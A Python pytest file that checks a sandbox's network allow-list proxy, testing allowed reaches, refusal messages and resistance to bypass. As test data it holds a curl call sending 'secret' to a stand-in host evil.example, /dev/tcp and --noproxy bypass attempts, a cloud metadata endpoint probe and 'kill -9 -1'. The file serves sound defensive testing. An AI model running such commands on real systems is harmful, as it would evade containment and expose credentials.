"""The network as commands in a sandbox have it: what is allowed, and nothing else at all."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from sandbox.backend import open_sandbox
from sandbox.network import Network
from sandbox.proxy import Proxy
from sandbox.sandbox import Sandbox
from tests.sandbox.hosts import Listener, listening, to_this_machine
from tools.shell import told


@pytest.fixture
async def host() -> AsyncIterator[Listener]:
    async with listening() as listener:
        yield listener


@pytest.fixture
async def network(host: Listener) -> AsyncIterator[Network]:
    network = Network.allowing([f"files.localhost:{host.port}"], to_this_machine)
    proxy = await Proxy.open(network)
    yield network
    await proxy.close()


@pytest.fixture
async def online(network: Network, tmp_path: Path) -> AsyncIterator[Sandbox]:
    root = tmp_path / "workspace"
    root.mkdir()
    sandbox = await open_sandbox(root, network=network)
    yield sandbox
    await sandbox.close()


async def test_curl_and_python_reach_what_is_allowed(online: Sandbox, host: Listener) -> None:
    url = f"http://files.localhost:{host.port}/"
    code = f"import urllib.request as u; print(u.urlopen('{url}').read().decode())"
    for command in (["curl", "-sS", url], ["curl", "-sS", "-p", url], [online.python, "-c", code]):
        done = await online.run(command)
        assert (done.stdout.strip(), done.refused) == ("hello", ()), done.stderr
    assert len(host.got) == 3


async def test_a_refusal_is_told_with_the_command(online: Sandbox, host: Listener) -> None:
    done = await online.run(["curl", "-sS", "https://evil.example/?secret"])
    assert done.exit_code != 0
    (sentence,) = done.refused
    assert "evil.example:443" in sentence
    assert "--allow evil.example" in sentence
    assert "secret" not in sentence
    assert sentence in told(done, 10, "")
    again = await online.run(["curl", "-sS", f"http://files.localhost:{host.port}/"])
    assert again.refused == ()


@pytest.mark.parametrize(
    "command",
    [
        "curl -sS -m 3 --noproxy '*' http://127.0.0.1:{port}/",
        "curl -sS -m 3 --noproxy '*' http://files.localhost:{port}/",
        "curl -sS -m 3 http://127.0.0.1:{port}/ -x http://127.0.0.1:3128",
        "curl -sS -m 3 http://localhost:{port}/",
        "exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3",
        "getent hosts example.org",
        "curl -sS -m 3 http://169.254.169.254/latest/meta-data/",
    ],
)  # fmt: skip
async def test_there_is_no_way_around(online: Sandbox, host: Listener, command: str) -> None:
    done = await online.run(["bash", "-c", command.format(port=host.port)])
    assert done.exit_code != 0 or "not on the allow-list" in done.stdout, done.stdout
    assert "hello" not in done.stdout
    assert host.got == []


async def test_a_server_inside_is_reached_without_the_proxy(online: Sandbox) -> None:
    script = (
        f"{online.python} -m http.server 8099 --bind 127.0.0.1 >/dev/null 2>&1 & "
        "for n in $(seq 50); do curl -sf http://127.0.0.1:8099/ >page && break; sleep 0.1; done; "
        "grep -c Directory page; kill %1"
    )
    done = await online.run(["bash", "-c", script])
    assert int(done.stdout) > 0, done.stderr
    assert done.refused == ()


async def test_without_a_network_there_is_no_proxy(tmp_path: Path) -> None:
    sandbox = await open_sandbox(tmp_path)
    done = await sandbox.run(["bash", "-c", "env | grep -i proxy; ls /run; ls /proc/net/unix"])
    await sandbox.close()
    assert "proxy" not in done.stdout.lower()


async def test_a_relay_that_was_killed_comes_back(online: Sandbox, host: Listener) -> None:
    command = ["curl", "-sS", f"http://files.localhost:{host.port}/"]
    assert (await online.run(command)).stdout == "hello"
    for _ in range(5):
        await online.run(["bash", "-c", "kill -9 -1"])
        assert (await online.run(command)).stdout == "hello"
